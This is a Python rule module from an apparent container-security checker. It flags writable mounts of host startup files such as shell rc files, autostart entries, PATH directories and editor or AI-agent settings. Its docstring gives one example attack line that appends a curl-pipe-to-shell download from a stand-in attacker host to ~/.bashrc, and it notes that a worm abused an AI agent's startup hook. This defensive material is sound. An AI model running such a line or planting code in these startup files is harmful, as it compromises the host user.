"""A file that starts programs on the host is writable from the container.

## What it is

A writable bind mount of a file or folder in your home from which the host runs commands: login
scripts (`~/.bashrc`, `~/.profile`, `~/.zshrc`), desktop autostart, user services, programs in your
`PATH` (`~/bin`, `~/.local/bin`, version managers), the settings and extensions of editors
(`~/.vscode`, `~/.vimrc`, `~/.emacs.d`), and the settings of AI agents (`~/.claude`, `~/.codex`,
`~/.gemini`), whose hooks and MCP servers are commands: a worm of 2026 wrote a `SessionStart` hook there.

## Why it is bad

Code inside the container writes one line, and your next terminal, login or editor runs it on the
host with your rights. No exploit is needed.

    echo 'curl -s https://attacker.example/x | sh &' >> ~/.bashrc

## What to do instead

Mount it read-only, or copy it: dotfiles repositories and the editor's settings sync need no mount.
For the history of a shell, a named volume.

## Under gVisor

No difference: the file is written on the host.

## References

- https://attack.mitre.org/techniques/T1546/004/
- https://code.visualstudio.com/docs/devcontainers/containers#_personalizing-with-dotfile-repositories
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from sandboxd import agent_files
from sandboxd.findings import Remedy, Remove, RuleMeta, Severity
from sandboxd.model.paths import lies_in
from sandboxd.rules._finding import at_value
from sandboxd.rules._mounts import host_mounts, within_workspace
from sandboxd.rules._needs import Field

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container

META = RuleMeta(
    id="host-startup-file-writable",
    summary="a file that starts programs on the host is writable",
    severity=Severity.ERROR,
    since="0.1.0",
    why="a line written there from inside runs on the host, with your rights",
    needs=(Field("mounts"),),
)

_SHELL = "your next shell runs"
_LOGIN = "your next login runs"
_PATH = "you start"
_EDITOR = "your editor runs"
_AGENT = "your AI agent runs"
# Below the home -> who runs it. `tests/rules/lists/startup-files.toml` has the sources.
FILES = {
    ".bashrc": _SHELL,
    ".bashrc.d": _SHELL,
    ".bash_profile": _SHELL,
    ".bash_login": _SHELL,
    ".bash_logout": _SHELL,
    ".bash_aliases": _SHELL,
    ".profile": _SHELL,
    ".zshrc": _SHELL,
    ".zshenv": _SHELL,
    ".zprofile": _SHELL,
    ".zlogin": _SHELL,
    ".oh-my-zsh": _SHELL,
    ".kshrc": _SHELL,
    ".cshrc": _SHELL,
    ".config/fish": _SHELL,
    ".config/nushell": _SHELL,
    ".config/powershell": _SHELL,
    "Documents/PowerShell": _SHELL,
    ".inputrc": _SHELL,
    ".pam_environment": _LOGIN,
    ".xprofile": _LOGIN,
    ".xinitrc": _LOGIN,
    ".xsession": _LOGIN,
    ".xsessionrc": _LOGIN,
    ".config/autostart": _LOGIN,
    ".config/systemd": _LOGIN,
    ".local/share/systemd": _LOGIN,
    ".config/environment.d": _LOGIN,
    ".local/share/applications": _LOGIN,
    "Library/LaunchAgents": _LOGIN,
    "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup": _LOGIN,
    ".config/i3": _LOGIN,
    ".config/sway": _LOGIN,
    ".config/hypr": _LOGIN,
    ".tmux.conf": _SHELL,
    ".config/tmux": _SHELL,
    "bin": _PATH,
    ".local/bin": _PATH,
    ".local/lib": _PATH,
    ".nvm": _PATH,
    ".pyenv": _PATH,
    ".rbenv": _PATH,
    ".asdf": _PATH,
    ".local/share/mise": _PATH,
    ".sdkman": _PATH,
    ".volta": _PATH,
    ".cargo/bin": _PATH,
    ".rustup": _PATH,
    "go/bin": _PATH,
    ".deno": _PATH,
    ".bun": _PATH,
    ".npm-global": _PATH,
    ".docker/cli-plugins": _PATH,
    ".vscode": _EDITOR,
    ".vscode-insiders": _EDITOR,
    ".vscode-oss": _EDITOR,
    ".vscode-server": _EDITOR,
    ".config/Code": _EDITOR,
    "Library/Application Support/Code": _EDITOR,
    "AppData/Roaming/Code": _EDITOR,
    ".cursor/extensions": _EDITOR,
    **dict.fromkeys(agent_files.STARTUP, _AGENT),
    ".vim": _EDITOR,
    ".vimrc": _EDITOR,
    ".config/nvim": _EDITOR,
    ".local/share/nvim": _EDITOR,
    ".emacs": _EDITOR,
    ".emacs.d": _EDITOR,
    ".config/emacs": _EDITOR,
    ".config/helix": _EDITOR,
    ".ipython": "your next IPython runs",
    ".gdbinit": "your debugger runs",
    ".config/gdb": "your debugger runs",
}


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    for mount, path in host_mounts(subject, host):
        runs = "" if mount.value.read_only else _runs(path)
        if not runs or within_workspace(mount, path, subject):
            continue
        yield at_value(
            META,
            mount,
            f"`{mount.written}` is writable from inside, and {runs} what is written there",
            path,
            remedies=(
                Remedy(
                    "remove the mount",
                    safe=False,
                    changes=(Remove(mount),),
                    caution=f"`{mount.value.target}` is that of the image",
                ),
            ),
        )


def _runs(path: str) -> str:
    """The program of the host that runs the file at `path`, '' for none that is known."""
    if not path.startswith("~/"):
        return ""
    for name, runs in FILES.items():
        if lies_in(path, f"~/{name}"):
            return runs
    return ""
